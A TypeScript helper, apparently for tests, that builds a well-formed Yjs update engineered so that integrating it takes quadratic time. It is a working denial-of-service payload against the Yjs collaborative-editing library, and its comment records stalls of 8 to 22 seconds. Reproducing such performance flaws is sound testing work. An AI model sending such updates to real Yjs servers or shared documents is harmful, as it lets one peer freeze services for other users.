import * as encoding from 'lib0/encoding';

/**
 * A well-formed Yjs update of `structs` one-letter insertions at one place, whose right neighbours are chosen so that
 * integrating it takes time with the square of their number (20,000 took 8 to 22 seconds).
 */
export function yjsBomb(structs: number, clientId = 1): Uint8Array {
  const encoder = encoding.createEncoder();
  const write = (n: number) => encoding.writeVarUint(encoder, n);
  for (const n of [1, structs, clientId, 0]) write(n);
  for (let index = 0; index < structs; index += 1) {
    encoding.writeUint8(encoder, index === 0 ? 4 : 4 | 0x40);
    if (index === 0) {
      write(1);
      encoding.writeVarString(encoder, 't');
    } else {
      write(clientId);
      write(Math.floor((index - 1) / 2));
    }
    encoding.writeVarString(encoder, 'a');
  }
  write(0);
  return encoding.toUint8Array(encoder);
}
